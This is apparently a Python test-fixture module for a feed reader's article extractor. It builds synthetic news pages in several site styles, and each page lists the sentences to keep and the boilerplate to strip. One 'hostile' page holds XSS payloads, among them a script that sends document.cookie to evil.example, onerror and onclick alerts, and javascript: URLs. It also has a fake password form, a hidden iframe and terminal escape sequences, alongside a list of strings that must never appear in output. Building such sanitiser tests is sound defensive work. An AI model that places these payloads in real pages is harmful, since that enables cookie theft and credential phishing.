# ruff: noqa: E501
# (the pages are HTML as sites write it, long lines and all)
"""Article pages shaped like real sites, written for wiredesk's tests and benchmark.

Each `Page` is one site's shape (a WordPress theme, a regional news site, JSON-LD, AMP, a live
blog, a paywall, tables, a hostile page, a bare page) around an article in our own words. `keep`
lists sentences an extractor must keep; `boilerplate` lists strings of the page's furniture
(navigation, cookie banner, comments, "read also", share buttons, ads, sidebar) that must not
reach the reader. `serve(server)` puts the corpus on a loopback FeedServer under /pages/NAME.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field

from tests.helpers.feeds import Entry, rss
from tui.core.items import Item
from tui.fetch.parse import parse_feed
from tui.store import Store

__all__ = ["PAGES", "TEASER_FEED", "Page", "deep_page", "huge_page", "serve", "teaser_items"]


@dataclass(frozen=True)
class Page:
    name: str
    html: str
    keep: tuple[str, ...]
    boilerplate: tuple[str, ...]
    paywalled: bool = False
    never: tuple[str, ...] = field(default=())  # hostile payloads: not one character of these may show


_COOKIES = (
    '<div class="cookie-consent" id="cookie-banner"><p>We use cookies to improve your visit and to show '
    'relevant offers.</p><button>Accept all cookies</button><button>Manage preferences</button></div>'
)
_SHARE = (
    '<div class="share-buttons"><a href="#" class="share-facebook">Share on Facebook</a>'
    '<a href="#" class="share-x">Post on X</a><a href="#" class="share-mail">Send by e-mail</a></div>'
)


def _wordpress() -> Page:
    keep = (
        "The ferry between Harlingen and Terschelling did not sail on Tuesday morning because of the storm.",
        "Travellers who had booked the early crossing were offered a place on the evening boat.",
        "A spokesperson for the shipping company said the decision was taken shortly after five o'clock.",
        "Wind gusts of up to 110 kilometres an hour were measured on the Wadden islands.",
        "The weather service expects the wind to ease by Wednesday afternoon.",
    )
    boiler = (
        "Skip to content", "Accept all cookies", "Share on Facebook", "Leave a Reply",
        "Your email address will not be published", "Related posts", "Ferry timetable changes for the summer",
        "Recent Comments", "Proudly powered by WordPress", "Advertisement: book your island holiday now",
    )
    html = f"""<!DOCTYPE html><html lang="en-US"><head><meta charset="UTF-8">
<title>Storm stops Terschelling ferry &#8211; Island Courant</title>
<link rel='stylesheet' id='twentytwenty-style-css' href='/wp-content/themes/twentytwenty/style.css' media='all'>
<script src='/wp-includes/js/jquery/jquery.min.js'></script></head>
<body class="post-template-default single single-post postid-4812 single-format-standard">
<a class="skip-link screen-reader-text" href="#site-content">Skip to content</a>
<header id="site-header" class="header-footer-group"><div class="header-inner section-inner">
<div class="site-title"><a href="/">Island Courant</a></div>
<nav class="primary-menu-wrapper" aria-label="Horizontal"><ul class="primary-menu reset-list-style">
<li class="menu-item"><a href="/news/">News</a></li><li class="menu-item"><a href="/weather/">Weather</a></li>
<li class="menu-item"><a href="/ferries/">Ferries</a></li><li class="menu-item"><a href="/contact/">Contact</a></li>
</ul></nav></div></header>
{_COOKIES}
<main id="site-content" role="main">
<article class="post-4812 post type-post status-publish format-standard hentry category-news" id="post-4812">
<header class="entry-header has-text-align-center"><div class="entry-categories"><a href="/category/news/">News</a></div>
<h1 class="entry-title">Storm stops Terschelling ferry</h1>
<div class="post-meta-wrapper"><ul class="post-meta"><li class="post-author">By Island Courant staff</li>
<li class="post-date"><a href="/2026/11/24/storm/">24 November 2026</a></li></ul></div></header>
<div class="post-inner thin"><div class="entry-content">
<p>{keep[0]} {keep[1]}</p>
<p>{keep[2]} The company had warned on Monday evening that crossings might be cancelled.</p>
<div class="wp-block-image"><figure><img src="/uploads/ferry.jpg" alt="The ferry at the quay"></figure></div>
<h2 class="wp-block-heading">Wind on the islands</h2>
<p>{keep[3]} Several trees fell on the dyke road near Midsland.</p>
<p>{keep[4]}</p>
<div class="wp-block-group advert"><p>Advertisement: book your island holiday now</p></div>
{_SHARE}
</div></div>
<div class="post-meta-wrapper post-meta-single post-meta-single-bottom"><ul class="post-meta">
<li class="post-tags meta-wrapper"><a href="/tag/storm/" rel="tag">storm</a></li></ul></div>
<div class="jp-relatedposts" id="jp-relatedposts"><h3 class="jp-relatedposts-headline">Related posts</h3>
<div class="jp-relatedposts-items"><p><a href="/ferry-summer/">Ferry timetable changes for the summer</a></p></div></div>
<div class="comments-wrapper section-inner"><div class="comments" id="comments"><h2 class="comment-reply-title">2 replies</h2>
<div class="comment"><div class="comment-content"><p>We were on that quay at six, nobody told us anything.</p></div></div>
</div><div id="respond" class="comment-respond"><h2 id="reply-title" class="comment-reply-title">Leave a Reply</h2>
<form action="/wp-comments-post.php" method="post" id="commentform" class="comment-form">
<p class="comment-notes">Your email address will not be published. Required fields are marked *</p>
<textarea id="comment" name="comment"></textarea><input name="submit" type="submit" value="Post Comment"></form>
</div></div></article></main>
<aside class="widget-area"><div class="widget widget_recent_comments"><h2 class="widget-title">Recent Comments</h2>
<ul><li>Jan on Dune works at West aan Zee</li></ul></div></aside>
<footer id="site-footer" class="footer-group"><p class="powered-by-wordpress">Proudly powered by WordPress</p></footer>
</body></html>"""
    return Page("wordpress", html, keep, boiler)


def _regional() -> Page:
    keep = (
        "The municipality of Zwolle wants to close the old swimming pool on the Bagijnesingel next year.",
        "The building is more than fifty years old and repairing the roof alone would cost four million euros.",
        "Swimming clubs fear that there will be too little water time left for training and lessons.",
        "A new pool is planned in the south of the city, but it will not open before 2029.",
        "The council will debate the proposal on 9 December.",
    )
    boiler = (
        "Home | Regio | Sport | Cultuur", "Meest gelezen", "Lees ook:", "Schools in Deventer start later",
        "Download onze app", "Reageer op dit artikel", "Volg ons op Instagram", "Deel dit artikel",
        "Vacatures in de regio", "Cookie-instellingen",
    )
    html = f"""<!doctype html><html lang="nl"><head><meta charset="utf-8"><title>Zwolle wants to close old pool | Regio Nieuws</title>
<meta property="og:title" content="Zwolle wants to close old pool"><meta property="og:type" content="article"></head>
<body><div id="app"><div class="topbar"><a href="/">Regio Nieuws</a>
<ul class="main-nav"><li>Home | Regio | Sport | Cultuur</li></ul><a class="app-promo" href="/app">Download onze app</a></div>
<div class="consent-overlay"><p>Cookie-instellingen</p><button>Akkoord</button></div>
<div class="page-layout"><div class="col-main">
<div class="article-header"><span class="article-label">Zwolle</span><h1>Zwolle wants to close old pool</h1>
<time datetime="2026-11-25T07:12:00+01:00">25 nov 2026, 07:12</time></div>
<div class="article-body">
<p class="intro"><strong>{keep[0]}</strong></p>
<p>{keep[1]} The city says that money is better spent on a new building.</p>
<aside class="read-also"><h4>Lees ook:</h4><ul><li><a href="/deventer-scholen">Schools in Deventer start later</a></li></ul></aside>
<p>{keep[2]} "We already share the lanes with three clubs," said a coach of the water polo team.</p>
<h3>New pool in the south</h3>
<p>{keep[3]} Until then the clubs may use the pool in Kampen on Saturday mornings.</p>
<p>{keep[4]} Residents may speak at that meeting.</p>
</div>
<div class="article-share"><span>Deel dit artikel</span><a href="#">WhatsApp</a><a href="#">Facebook</a></div>
<div class="reactions"><h3>Reageer op dit artikel</h3><p>Log in om te reageren.</p></div>
</div>
<div class="col-side"><section class="most-read"><h3>Meest gelezen</h3><ol><li><a href="/a">Traffic jam on the A28 after crash</a></li>
<li><a href="/b">Bakery in Kampen wins prize</a></li></ol></section>
<section class="jobs"><h3>Vacatures in de regio</h3><p>Zorgmedewerker gezocht in Hattem</p></section></div></div>
<footer><a href="/instagram">Volg ons op Instagram</a><p>Regio Nieuws is part of a regional media group.</p></footer>
</div></body></html>"""
    return Page("regional", html, keep, boiler)


def _json_ld() -> Page:
    keep = (
        "Dutch exports of flowers rose by six percent in the third quarter, the trade association reported.",
        "Germany remained the largest buyer, followed by the United Kingdom and France.",
        "Growers in the Westland said high energy prices still weigh on their margins.",
        "The auction in Aalsmeer handled more tulips in October than a year earlier.",
    )
    boiler = (
        "Markets Today newsletter", "Sign up for our newsletter", "More from Business", "Trending now",
        "Sponsored content", "Share this story",
    )
    html = f"""<!DOCTYPE html><html><head><title>Flower exports grow - Business Daily</title>
<script type="application/ld+json">{{"@context":"https://schema.org","@type":"NewsArticle",
"headline":"Flower exports grow","datePublished":"2026-11-20T10:00:00Z",
"author":{{"@type":"Person","name":"Business Daily reporter"}},
"articleBody":"{keep[0]} {keep[1]} {keep[2]} {keep[3]}"}}</script></head>
<body><header class="site-header"><nav><a href="/">Business Daily</a><a href="/markets">Markets</a>
<a href="/tech">Tech</a></nav></header>
<div class="newsletter-signup"><h3>Markets Today newsletter</h3><p>Sign up for our newsletter</p><input type="email"></div>
<div class="container"><div class="story" itemscope itemtype="https://schema.org/NewsArticle">
<h1 itemprop="headline">Flower exports grow</h1>
<div itemprop="articleBody">
<p>{keep[0]}</p><p>{keep[1]}</p>
<div class="inline-ad"><span>Sponsored content</span><p>Trade smarter with our premium charts.</p></div>
<p>{keep[2]}</p><p>{keep[3]}</p></div>
<div class="social"><button>Share this story</button></div></div>
<div class="rail"><h3>Trending now</h3><ul><li>Chip maker raises forecast</li></ul>
<h3>More from Business</h3><ul><li>Port of Rotterdam handles record containers</li></ul></div></div></body></html>"""
    return Page("json-ld", html, keep, boiler)


def _amp() -> Page:
    keep = (
        "Police in Utrecht arrested two men after a break-in at a jeweller on the Oudegracht.",
        "The men were caught a few streets away, still carrying part of the stolen goods.",
        "Nobody was hurt during the break-in, which took place shortly after midnight.",
        "The police are looking for witnesses and ask anyone with camera images to get in touch.",
    )
    boiler = (
        "Menu", "Open in app", "Read more stories", "Advertisement", "Share via WhatsApp",
        "Privacy settings",
    )
    html = f"""<!doctype html><html amp lang="nl"><head><meta charset="utf-8">
<script async src="https://cdn.ampproject.org/v0.js"></script>
<link rel="canonical" href="https://utrecht.example/news/jeweller">
<style amp-boilerplate>body{{-webkit-animation:-amp-start 8s steps(1,end) 0s 1 normal both}}</style>
<style amp-custom>.headline{{font-size:2em}}</style><title>Two arrests after jeweller break-in</title></head>
<body><amp-sidebar id="sidebar" layout="nodisplay"><ul><li>Menu</li><li>Regio</li><li>Sport</li></ul></amp-sidebar>
<header class="amp-header"><button on="tap:sidebar.toggle">Menu</button><a href="/app">Open in app</a></header>
<amp-consent id="consent" layout="nodisplay"><div class="consent-ui">Privacy settings<button>OK</button></div></amp-consent>
<main><article><h1 class="headline">Two arrests after jeweller break-in</h1>
<amp-img src="/img/oudegracht.jpg" width="600" height="400" layout="responsive" alt="The Oudegracht"></amp-img>
<p>{keep[0]}</p><p>{keep[1]}</p>
<amp-ad width="300" height="250" type="doubleclick" data-slot="/123/news"><div fallback>Advertisement</div></amp-ad>
<p>{keep[2]}</p><p>{keep[3]}</p>
<amp-social-share type="whatsapp" aria-label="Share via WhatsApp">Share via WhatsApp</amp-social-share>
</article>
<section class="more"><h2>Read more stories</h2><ul><li><a href="/x">Canal boat sinks at the wharf</a></li></ul></section>
</main></body></html>"""
    return Page("amp", html, keep, boiler)


def _live_blog() -> Page:
    keep = (
        "The Dutch cabinet has reached an agreement on the housing budget after talks that lasted all night.",
        "The prime minister will explain the agreement to the press at eleven o'clock in The Hague.",
        "Opposition parties have asked for a debate in parliament this week.",
        "The agreement includes extra money for building homes for students and older people.",
        "Housing corporations reacted with cautious approval but want to see the figures first.",
    )
    boiler = (
        "Live updates are refreshed automatically", "Pin this blog", "Show more updates", "Top stories",
        "Share this update", "Follow live on our app",
    )
    updates = "".join(
        f'<div class="live-update" id="u{n}"><time>{t}</time><div class="update-body"><p>{text}</p></div>'
        f'<button class="share-update">Share this update</button></div>'
        for n, (t, text) in enumerate(
            [("10:42", keep[4]), ("09:58", keep[3]), ("09:15", keep[2]), ("08:30", keep[1]), ("07:05", keep[0])]
        )
    )
    html = f"""<!DOCTYPE html><html><head><title>LIVE | Cabinet agrees on housing budget</title></head>
<body><nav class="global-nav"><a href="/">Nieuws</a><a href="/politiek">Politiek</a><a href="/top">Top stories</a></nav>
<div class="live-header"><h1>LIVE | Cabinet agrees on housing budget</h1>
<p class="live-note">Live updates are refreshed automatically</p><button>Pin this blog</button></div>
<div class="live-stream">{updates}</div>
<button class="load-more">Show more updates</button>
<div class="app-box">Follow live on our app</div>
</body></html>"""
    return Page("live-blog", html, keep, boiler)


def _paywall() -> Page:
    keep = (
        "The province of Groningen will spend an extra 40 million euros on reinforcing homes damaged by gas extraction.",
        "Residents who have waited more than three years for an inspection will be helped first.",
    )
    boiler = (
        "Subscribe to read the full article", "Already a subscriber? Log in", "Try one month for 1 euro",
        "Newsletter", "Also interesting",
    )
    html = f"""<!DOCTYPE html><html><head><title>Extra millions for Groningen homes | Noorder Dagblad</title>
<script type="application/ld+json">{{"@context":"https://schema.org","@type":"NewsArticle",
"headline":"Extra millions for Groningen homes","isAccessibleForFree":false,
"hasPart":{{"@type":"WebPageElement","isAccessibleForFree":false,"cssSelector":".paywalled"}}}}</script></head>
<body><nav><a href="/">Noorder Dagblad</a> <a href="/groningen">Groningen</a> <a href="/drenthe">Drenthe</a></nav>
<article><h1>Extra millions for Groningen homes</h1>
<div class="article-free"><p>{keep[0]}</p><p>{keep[1]}</p></div>
<div class="paywalled premium-content" style="display:none"></div>
<div class="paywall-prompt"><h3>Subscribe to read the full article</h3><p>Try one month for 1 euro</p>
<a href="/login">Already a subscriber? Log in</a></div></article>
<aside><h3>Also interesting</h3><ul><li>Wind farm in the Eemshaven opens</li></ul>
<div>Newsletter</div></aside></body></html>"""
    return Page("paywall", html, keep, boiler, paywalled=True)


def _tables() -> Page:
    keep = (
        "Turnout in the municipal by-elections was lower than four years ago in almost every town.",
        "In Leeuwarden fewer than half of the voters went to the polls.",
        "The electoral council will publish the final figures on Friday.",
    )
    cells = (("Leeuwarden", "48.2", "55.1"), ("Sneek", "51.7", "57.3"), ("Heerenveen", "53.0", "56.8"))
    rows = "".join(f"<tr><td>{a}</td><td>{b}</td><td>{c}</td></tr>" for a, b, c in cells)
    boiler = ("Election results by province", "Sponsored", "Tell us what you think", "Print this page",
              "Back to top")
    html = f"""<!DOCTYPE html><html><head><title>Low turnout in by-elections</title></head><body>
<header><nav><ul><li><a href="/results">Election results by province</a></li></ul></nav></header>
<div id="main"><h1>Low turnout in by-elections</h1>
<p>{keep[0]} {keep[1]}</p>
<table class="results"><thead><tr><th>Town</th><th>Turnout 2026 (%)</th><th>Turnout 2022 (%)</th></tr></thead>
<tbody>{rows}</tbody></table>
<p>{keep[2]}</p>
<div class="ad-slot"><span>Sponsored</span></div></div>
<div class="feedback-box">Tell us what you think</div>
<footer><a href="javascript:print()">Print this page</a> <a href="#top">Back to top</a></footer></body></html>"""
    return Page("tables", html, keep + tuple(c[0] for c in cells) + ("48.2",), boiler)


HOSTILE_NEVER = (
    "alert(", "document.cookie", "evil.example", "onerror", "onclick", "javascript:", "steal()", "\x1b",
    "]0;pwned", "Enter your password", "hidden-frame", "pwned",
)


def _hostile() -> Page:
    keep = (
        "The water board raised the dykes along the IJssel near Deventer by half a metre this autumn.",
        "Engineers say the work should protect the town against a flood that occurs once in a thousand years.",
        "Farmers along the river received compensation for land that was needed for the new dykes.",
    )
    boiler = ("Top menu", "Log in to comment", "Win a free tablet")
    html = f"""<!DOCTYPE html><html><head><title>Higher dykes along the IJssel\x1b]0;pwned\x07</title>
<script>document.cookie="a=b"; fetch("https://evil.example/steal?c="+document.cookie)</script>
<style>body {{ background: url(javascript:alert(1)) }}</style></head>
<body onload="steal()"><div class="menu">Top menu</div>
<iframe src="https://evil.example/frame" class="hidden-frame">hidden-frame fallback text</iframe>
<article><h1>Higher dykes along the IJssel</h1>
<p onclick="alert(1)">{keep[0]}\x1b[2J\x1b[31m</p>
<p>{keep[1]}<img src="x" onerror="alert(document.cookie)"></p>
<p>{keep[2]}\x07\x00<a href="javascript:alert(2)">.</a></p>
<script>alert("inline in the article")</script>
<noscript><p>steal() without scripts</p></noscript>
<form action="https://evil.example/login"><p>Enter your password</p><input type="password" name="pw"></form>
</article>
<div class="comments">Log in to comment</div><div class="promo">Win a free tablet</div>
<object data="https://evil.example/flash.swf"></object></body></html>"""
    return Page("hostile", html, keep, boiler, never=HOSTILE_NEVER)


def _bare() -> Page:
    keep = (
        "The national railway company will run fewer trains between Amsterdam and Schiphol this weekend.",
        "Engineers are replacing a set of points near Amsterdam Sloterdijk.",
        "Travellers are advised to allow thirty minutes more for their journey.",
    )
    html = (
        "<html><head><title>Fewer trains to Schiphol</title></head><body><h1>Fewer trains to Schiphol</h1>"
        f"<p>{keep[0]}</p><p>{keep[1]}</p><p>{keep[2]}</p></body></html>"
    )
    return Page("bare", html, keep, ())


PAGES: tuple[Page, ...] = (
    _wordpress(), _regional(), _json_ld(), _amp(), _live_blog(), _paywall(), _tables(), _hostile(), _bare(),
)


def deep_page(depth: int = 5000) -> str:
    """An article whose end is buried `depth` <div>s deep."""
    return (
        "<html><body><article><h1>Deep</h1><p>The opening paragraph of a page that nests far too deep.</p>"
        + "<div>" * depth + "<p>Buried text at the bottom.</p>" + "</div>" * depth + "</article></body></html>"
    )


def huge_page(megabytes: float = 6) -> str:
    """An article followed by megabytes of paragraphs."""
    filler = "<p>Filler paragraph number that repeats and repeats to make the page enormous.</p>\n"
    count = int(megabytes * 1024 * 1024 / len(filler))
    return (
        "<html><body><article><h1>Huge</h1><p>The opening paragraph of a page that never ends.</p>"
        + filler * count + "</article></body></html>"
    )


def serve(server, pages: tuple[Page, ...] = PAGES) -> dict[str, str]:
    """Serve each page at /pages/NAME on a started FeedServer; name -> URL."""
    urls = {}
    for page in pages:
        path = f"/pages/{page.name}"
        server.set(path, page.html.encode("utf-8"), content_type="text/html; charset=utf-8")
        urls[page.name] = server.url(path)
    return urls


TEASER_FEED = "https://teasers.test/feed.rss"


def teaser_items(store: Store, links: list[str], feed_url: str = TEASER_FEED, now: float | None = None) -> list[Item]:
    """Items of a teaser feed, one per link (newest first), stored in `store`; the stored Items."""
    now = time.time() if now is None else now
    entries = [Entry(f"Teaser {n}", guid=f"urn:teaser:{n}", link=link, date=now - 60 * n,
                     body=f"<p>Only the first lines of story {n}.</p>") for n, link in enumerate(links)]
    _, stored = store.ingest(parse_feed(rss(entries), feed_url, now))
    return stored
